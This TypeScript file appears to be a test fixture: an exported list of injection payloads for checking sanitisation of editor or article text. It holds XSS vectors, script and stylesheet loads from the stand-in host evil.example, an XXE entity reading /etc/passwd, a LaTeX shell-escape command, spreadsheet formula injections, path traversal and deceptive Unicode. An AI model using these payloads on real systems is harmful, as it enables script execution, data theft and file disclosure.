const RUN = 'window.__pwn=1';

/** Markup that runs a script when it becomes markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x:x onerror=${RUN}//`,
  `<svg/onload=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext></mtext><mglyph><style></style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwn=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__pwn=1</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<x onclick=${RUN} style=position:fixed;inset:0>click</x>`,
  `<x onpointerenter=${RUN} contenteditable>hover</x>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<button popovertarget=p onbeforetoggle=${RUN}>x</button><div popover id=p>y</div>`,
  `<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart=${RUN}>x</x>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<form action=javascript:${RUN}><button>go</button></form>`,
];

/** Markup that would load or send something, or move the page. */
const LOADS = [
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><input name=q></form>',
  '<img src=https://evil.example/x.png srcset="https://evil.example/y.png 2x">',
  '<video poster=https://evil.example/x.png></video>',
  '<a href=https://evil.example/ ping=https://evil.example/ping>x</a>',
  '<x style="background:url(//evil.example/x)">x</x>',
];

/** What ends a comment, a section, a string or a template of another language. */
const ENDS = [
  `<!--><script>${RUN}</script>-->`,
  `<!-- --!><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `'-${RUN}-'`,
  `";${RUN};"`,
  `\\";${RUN}//`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `\`\${${RUN}}\``,
  `{"__proto__":{"polluted":1},"x":"</script>"}`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?php ${RUN} ?><% ${RUN} %>`,
  '}} %} \\end{document} \\input{/etc/passwd} {\\immediate\\write18{id}}',
];

/** What is markup only after it was decoded once more than it should be. */
const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `<scr\u00ADipt>${RUN}</scr\u00ADipt>`,
  `<\u200Bscript>${RUN}</\u200Bscript>`,
];

/** Characters that hide, turn or break text. */
const CHARACTERS = [
  '\u202Etxt.exe\u202C and \u2066hidden\u2069 and \u200Bzero\u200D width \uFEFF mark',
  '\u{E0041}\u{E0042} tags of the tag block',
  `\u2028${RUN}\u2029`,
  'Z\u0351\u036B\u0343\u036A\u0302\u034Aalgo\u0315\u0301',
  'pаypal.example with a letter of another script',
  'ﷺ﷽ and ‮right‬ to left: ميناء',
];

/** What a table, a path, an address or an object takes for more than text. */
const MEANINGS = [
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '＝1+1',
  '-2+3+cmd|calc!A0',
  '__proto__ constructor prototype toString hasOwnProperty',
  '../../../etc/passwd and ..\\..\\windows and %2e%2e%2f',
  'C:\\CON and /dev/null and file:///etc/passwd',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '#:~:text=evil and ?q=<script>&q=1',
  '//evil.example/%2F..',
  'x'.repeat(300),
];

/** Attacks, each of which stands in every place of some story that an editor's or an article's text can reach. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...LOADS,
  ...ENDS,
  ...ENCODED,
  ...CHARACTERS,
  ...MEANINGS,
];
